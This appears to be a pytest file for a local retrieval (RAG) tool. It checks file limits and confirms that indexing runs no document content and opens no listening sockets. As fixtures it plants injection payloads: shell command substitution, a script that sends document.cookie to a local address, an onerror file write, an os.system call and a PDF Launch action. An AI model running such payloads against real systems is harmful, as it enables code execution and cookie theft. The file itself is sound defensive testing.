"""Limits and safety: max pages / chunks per file are settings that are enforced; an index + ask run writes nothing
outside its index folder, runs no document content, and opens no listening socket."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from rag import RAG
from rag.config import Settings
from rag.store.catalog import Catalog
from rag.store.layout import layout
from support.adversarial import text_pdf, words
from support.paths import REPO


def test_limits_are_settings_with_defaults() -> None:
    s = Settings.resolve()
    assert s.max_file_bytes > 0 and s.max_pages > 0 and s.max_chunks_per_file > 0 and s.file_timeout_s > 0
    tight = Settings.resolve(max_file_bytes=10, max_pages=2, max_chunks_per_file=3, file_timeout_s=1.5)
    assert (tight.max_file_bytes, tight.max_pages, tight.max_chunks_per_file, tight.file_timeout_s) == (10, 2, 3, 1.5)


def test_max_pages_and_max_chunks_per_file_are_enforced(ollama, tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    text_pdf(docs / "book.pdf", [f"Page {n} marker{n}. " + words(n, 40) for n in range(1, 7)])
    (docs / "long.md").write_text("\n\n".join(f"# Part {i}\n\n" + words(i, 120) for i in range(12)), encoding="utf-8")
    with RAG(
        tmp_path / "idx", embed_backend="ollama", max_pages=2, max_chunks_per_file=3, chunk_tokens=60, chunk_overlap=10
    ) as rag:
        report = rag.index(docs)
    outcomes = {o.source: o for o in report.files}
    book, long = outcomes["docs/book.pdf"], outcomes["docs/long.md"]
    assert book.status == long.status == "added"
    assert any("first 2 of 6 pages" in w for w in book.warnings), book.warnings
    assert long.chunks == 3 and any("max_chunks_per_file" in w for w in long.warnings), long
    with Catalog(layout(tmp_path / "idx", None, "default").catalog, create=False) as cat:
        book_text = " ".join(c.text for c in cat.chunks_of("docs/book.pdf"))
        assert len(cat.chunks_of("docs/long.md")) == 3
    assert "marker2" in book_text and "marker3" not in book_text


def _snapshot(*roots: Path, skip: Path | None = None) -> dict[str, tuple[int, int]]:
    """path -> (size, mtime_ns) of everything under the roots (symlinks not followed), except under `skip`."""
    found = {}
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            if skip is not None and Path(dirpath).resolve().is_relative_to(skip.resolve()):
                dirnames[:] = []
                continue
            for name in dirnames + filenames:
                st = os.lstat(os.path.join(dirpath, name))
                found[os.path.join(dirpath, name)] = (st.st_size, st.st_mtime_ns)
    return found


def _listening_inodes() -> set[str]:
    inodes = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        inodes |= {cols[9] for cols in (line.split() for line in lines) if cols[3] == "0A"}  # 0A: LISTEN
    return inodes


def _tree_sockets(pid: int) -> set[str]:
    """Socket inodes held by `pid` and its descendants (extraction workers, forkserver)."""
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
            children.setdefault(int(fields[1]), []).append(int(stat.parent.name))
        except (OSError, IndexError, ValueError):
            continue
    todo, sockets = [pid], set()
    while todo:
        current = todo.pop()
        todo += children.get(current, [])
        try:
            for fd in Path(f"/proc/{current}/fd").iterdir():
                target = os.readlink(fd)
                if target.startswith("socket:["):
                    sockets.add(target[8:-1])
        except OSError:
            continue
    return sockets


@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs Linux /proc")
def test_index_and_ask_write_only_inside_the_index_and_listen_on_nothing(ollama, tmp_path: Path) -> None:
    docs, work, idx, scratch = tmp_path / "docs", tmp_path / "work", tmp_path / "work" / "idx", tmp_path / "tmp"
    for d in (docs, work, scratch):
        d.mkdir()
    marker = tmp_path / "pwned"
    (docs / "notes.md").write_text(
        f"# Notes\n\n{words(1)}\n\n$(touch {marker})\n\n`touch {marker}`\n", encoding="utf-8"
    )
    (docs / "page.html").write_text(
        f"<html><head><script>fetch('http://127.0.0.1:1/'+document.cookie)</script></head><body><h1>Page</h1>"
        f"<p>{words(2)}</p><img src=x onerror=\"require('fs').writeFileSync('{marker}','x')\"></body></html>",
        encoding="utf-8",
    )
    (docs / "code.txt").write_text(f"__import__('os').system('touch {marker}')\n{words(3)}", encoding="utf-8")
    text_pdf(docs / "paper.pdf", [words(4), f"/OpenAction << /S /Launch /F ({marker}) >> {words(5)}"])
    (docs / "script.sh").write_text(f"#!/bin/sh\ntouch {marker}\n", encoding="utf-8")  # not a document type
    home = Path(os.environ["RAG_HOME"])
    before = _snapshot(docs, work, home, scratch)
    env = os.environ | {"PYTHONPATH": str(REPO), "TMPDIR": str(scratch)}

    index = subprocess.Popen(
        [sys.executable, "-m", "rag", "index", str(docs), "--index", str(idx), "--embed-backend", "ollama"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        cwd=work,
    )
    ollama.latency = 0.05
    listening = set()
    while index.poll() is None:
        listening |= _tree_sockets(index.pid) & _listening_inodes()
        time.sleep(0.02)
    assert index.returncode == 0, index.stderr.read()
    ask = subprocess.run(
        check=False,
        args=[
            sys.executable,
            "-m",
            "rag",
            "ask",
            "What do the notes say about the ferry?",
            "--index",
            str(idx),
            "--json",
            "--min-score",
            "0",
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=work,
        timeout=120,
    )
    assert ask.returncode == 0, ask.stderr
    assert json.loads(ask.stdout)["mode"] == "generative"

    assert not listening, "rag index opened a listening socket"
    assert not marker.exists(), "document content was executed"
    after = _snapshot(docs, work, home, scratch, skip=idx)
    assert {p: v for p, v in after.items() if p in before} == before  # nothing read was modified
    assert sorted(set(after) - set(before)) == [str(idx)]  # only the index folder itself is new
    assert list(scratch.iterdir()) == []  # no temp files left behind
    with Catalog(layout(idx, None, "default").catalog, create=False) as cat:
        assert "docs/script.sh" not in cat.files()
        assert "document.cookie" not in " ".join(t for _, t, _ in cat.iter_chunks())  # <script> is not text
